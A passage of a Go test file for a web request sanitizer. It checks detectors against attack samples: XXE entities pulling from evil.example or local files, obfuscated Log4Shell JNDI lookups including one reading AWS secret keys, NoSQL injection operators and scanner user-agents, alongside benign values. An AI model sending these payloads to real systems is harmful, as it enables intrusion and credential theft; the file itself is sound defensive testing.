	{RuleXXE, "form.x", "<!ENTITY xxe SYSTEM \"file:///etc/hostname\">"},
	{RuleXXE, "json.x", "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.example/x.dtd\"> %xxe;]>"},
	{RuleXXE, "json.x", "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\">"},
	{RuleXXE, "query.x", "%xxe;"},
	{RuleXXE, "query.x", "SYSTEM 'file:///c:/boot.ini'"},
	{RuleXXE, "query.x", "%3C%21ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fx%22%3E"},
	{"", "json.text", "The system \"works\" fine"},
	{"", "json.text", "50%; 20%; 30%"},
	{"", "json.code", "printf(\"%d;\", x)"},

	// jndi
	{RuleJNDI, "header.user-agent", "${jndi:ldap://evil.example/a}"},
	{RuleJNDI, "query.q", "${${lower:j}ndi:ldap://x/a}"},
	{RuleJNDI, "query.q", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"},
	{RuleJNDI, "query.q", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}"},
	{RuleJNDI, "query.q", "${j${k8s:k5:-ND}i:ldap://x/a}"},
	{RuleJNDI, "query.q", "${env:AWS_SECRET_ACCESS_KEY}"},
	{RuleJNDI, "query.q", "${sys:java.version}"},
	{RuleJNDI, "query.q", "%24%7Bjndi%3Adns%3A%2F%2Fx%7D"},
	{RuleJNDI, "query.q", "${ jndi:ldap://x/a}"},
	{RuleJNDI, "json.q", "$\\u007Bjndi:dns://x/a}"},
	{RuleJNDI, "json.q", "$&LBRACE;jndi:dns://x/a}"},
	{RuleJNDI, "query.q", "\\u0024\\u007Bjndi:dns://x/a}"},
	{RuleJNDI, "query.q", "\\x24\\x7Bjndi:dns://x/a}"},
	{"", "json.code", "const s = `${user.name}: ${count}`;"},
	{"", "json.text", "costs ${price} dollars"},

	// nosql
	{RuleNoSQL, "query.user[$ne]", "user[$ne]"},
	{RuleNoSQL, "json.password.$gt", "$gt"},
	{RuleNoSQL, "query.q", "{\"$where\": \"sleep(100)\"}"},
	{RuleNoSQL, "query.q", "[$regex]=.*"},
	{RuleNoSQL, "json.q", "$expr"},
	{RuleNoSQL, "json.q", "'; return true; var x='"},
	{"", "query.q", "$5 or $10"},
	{"", "query.q", "costs $ne"[0:6]},
	{"", "json.text", "use $inner and $gtx vars"},

	// scanner
	{RuleScanner, "header.user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
	{RuleScanner, "header.user-agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"},
	{RuleScanner, "header.user-agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
	{RuleScanner, "header.user-agent", "Fuzz Faster U Fool v2.1.0 (ffuf)"},
	{RuleScanner, "header.user-agent", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
	{RuleScanner, "header.user-agent", "gobuster/3.6"},
	{RuleScanner, "header.user-agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
	{"", "header.user-agent", "curl/8.5.0"},
	{"", "header.user-agent", "Wget/1.21.4"},
	{"", "header.user-agent", "python-requests/2.31.0"},
	{"", "header.user-agent", "Go-http-client/1.1"},
	{"", "header.user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
	{"", "header.referer", "https://en.wikipedia.org/wiki/Atomic_nuclei"},
	{"", "query.q", "sqlmap tutorial"},

	// Ordinary header values, should every header be inspected.
	{"", "header.accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
	{"", "header.accept-language", "en-US,en;q=0.9,de;q=0.8"},
	{"", "header.accept-encoding", "gzip, deflate, br, zstd"},
	{"", "header.cache-control", "no-cache, no-store, must-revalidate"},
	{"", "header.content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"},
	{"", "header.sec-ch-ua", "\"Chromium\";v=\"128\", \"Not;A=Brand\";v=\"24\", \"Google Chrome\";v=\"128\""},
	{"", "header.authorization", "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl"},
	{"", "header.x-forwarded-for", "203.0.113.7, 10.0.0.1"},
	{"", "header.if-none-match", "W/\"5e15153d-120f\""},
	{"", "header.traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"},
	{"", "header.forwarded", "for=192.0.2.60;proto=http;by=203.0.113.43"},
	{"", "header.user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36"},
	{"", "header.user-agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"},
	{"", "header.user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
	{"", "header.user-agent", "okhttp/4.12.0"},
	{"", "header.referer", "https://www.google.com/search?q=tom+%26+jerry&hl=en"},
	{"", "header.cookie", "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; theme=dark"},
}

func TestDetectors(t *testing.T) {
	p, err := Parse([]byte(`{}`))
	if err != nil {
		t.Fatal(err)
	}
	r := p.(*Policy).def
	n := p.(*Policy).norm
	for _, c := range detectorCases {
		enc := encNone
		if strings.HasPrefix(c.loc, "query") || strings.HasPrefix(c.loc, "form") {
			enc = encQuery
		} else if strings.HasPrefix(c.loc, "path") || strings.HasPrefix(c.loc, "cookie") {
			enc = encURL
		}
		v, _ := n.normalize(c.value, enc)
		if got, _ := r.detect(&v, c.loc); got != c.want {
			t.Errorf("%s %q: got %q, want %q", c.loc, c.value, got, c.want)
		}
	}
}

// TestDetectorsLinear runs every detector on long adversarial values (repeated openers without
// closers, separators, globs, wrappers, nested lookups): 16 times the input must cost far less
// than 256 times the time (quadratic), whatever the machine's load: the best of 3 runs on 4 KiB
// and on 64 KiB are compared.
func TestDetectorsLinear(t *testing.T) {
	p, err := Parse([]byte(`{}`))
	if err != nil {
		t.Fatal(err)
	}
	r := p.(*Policy).def
	best := func(v, loc string, runs int) time.Duration {
		d := time.Duration(1 << 62)
		nv := normalized{text: v, folded: v, bytes: bytesOf(v)} // the prefilters' byte set, as normalize fills it
		for i := 0; i < runs; i++ {
			start := time.Now()
			r.detect(&nv, loc)
			d = min(d, time.Since(start))
		}
		return d
	}
	for _, unit := range []string{
		"${", "${a", "${a:-", "{{", "{{7", "<%", "#{", "{%", ";c?t", ";time ", "time;", "|", "{a,",
		"$", "${x}", "(", ")(", "(&(uid=", "%abc", "system \"", "<!doctype", "\n", "\nx-a", "get ",
		" -", "/???/", "[", "$((", "`", "if ", "for /", "${${", "${j${x:-", "'", "\\", "a=b ",
		"nmap", "dirb", "*/(", "on", "union/**/", "$_(", "o:1:", "<?", "java.", "](", "http:", "@{[",
		"x'|", "`;", "';", " ;", "\\'or ", "\\x2", "/*!", "/*", "'$.", "or x=", "or ('a'='a", "and 1=",
		"max(", ") as x", "values (",
		"$ {", "$ {'", "cnVudGltZQ", "engine=", "a$@", "f(){ f|", "f(){", "while(", "while((", "$[1+", "a<<<", "opcache.a=", "shell_exec ", ")('", "\"\\x", "$a(",
	} {
		small, large := strings.Repeat(unit, 4096/len(unit)), strings.Repeat(unit, 65536/len(unit))
		for _, loc := range []string{"query.q", "header.user-agent", "path[0]"} {
			ts, tl := best(small, loc, 3), best(large, loc, 3)
			if tl > 64*ts+10*time.Millisecond {
				// A busy machine (a GC, another process) can stretch every one of three runs:
				// measure both again, best of more runs, before calling it quadratic.
				ts, tl = min(ts, best(small, loc, 10)), min(tl, best(large, loc, 10))
			}
			if tl > 64*ts+10*time.Millisecond {
				t.Errorf("%q at %s: %d bytes took %v, %d bytes %v: not linear", unit, loc, len(small), ts, len(large), tl)
			}
		}
	}
}

// BenchmarkDetectors times each detector on typical request values (the common case: every
// value of every request goes through all of them):
//
//	go test -run '^$' -bench BenchmarkDetectors -benchmem ./plugins/sanitize
func BenchmarkDetectors(b *testing.B) {
	p, err := Parse([]byte(`{}`))
	if err != nil {
		b.Fatal(err)
	}
	r := p.(*Policy).def
	// What a typical GET and JSON POST carry: words, names, dates, URLs, a browser User-Agent,
	// cookie values, a sentence.
	var values []normalized
	for _, w := range []string{
		"shoes", "en", "2", "Siobhán O'Brien", "2024-01-01T00:00:00Z", "https://www.example.com/search?q=shoes&page=2",
		"jane.doe@example.com", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
		"7f3a9c2e41", "dark", "TSHIRT-RED-M", "Please select your plan before checkout",
	} {
		values = append(values, normalized{text: w, folded: lower(w), bytes: bytesOf(w)})
	}
	for _, d := range detectors {
		b.Run(d.rule, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				v := values[i%len(values)]
				d.match(r, v, "query.q")
			}
		})
	}
	b.Run("all", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			r.detect(&values[i%len(values)], "query.q")
		}
	})
}

// TestPHPLone pins phpLoneCall and phpLoneVariable, whose attacks the table above mostly sees
// fired by sql_injection first (SQL calls "floor(", "chr(", "md5(" too).
func TestPHPLone(t *testing.T) {
	for s, want := range map[string]bool{
		"printf(foo)": true, "chroot\t()": true, "@chr(112);": true, "floor\t()": true, "md5/**/(x)": true,
		"substr($a, 1)": true, " sleep() ": true, "count($a, $b)": true,
		"printf(\"%d\", n)": false, "sqrt(2)": false, "floor(x)": false, "count(1)": false, "my_fn()": false,
		"printf(foo) + 1": false, "chr(a.b)": false, "printf(": false, "(printf)": false,
	} {
		if got := phpLoneCall(s); got != want {
			t.Errorf("phpLoneCall(%q) = %v, want %v", s, got, want)
		}
	}
	for s, want := range map[string]bool{
		"${a}": true, " ${ CONSTANT } ;": true, "${_x1}": true,
		"${7}": false, "${a.b}": false, "a ${b}": false, "${a} text": false, "${}": false, "${a": false,
	} {
		if got := phpLoneVariable(s); got != want {
			t.Errorf("phpLoneVariable(%q) = %v, want %v", s, got, want)
		}
	}
}

func TestPHPOpenTag(t *testing.T) {
	for s, want := range map[string]bool{
		"<? foo(); ?>": true, "a <?": true, "<?php x": true, "<?=1": false, "<?xml version=\"1.0\"?>": false,
		"<?mso-application progid=\"Word.Document\"?>": false,
	} {
		if got := phpOpenTag(s); got != want {
			t.Errorf("phpOpenTag(%q) = %v, want %v", s, got, want)
		}
	}
}
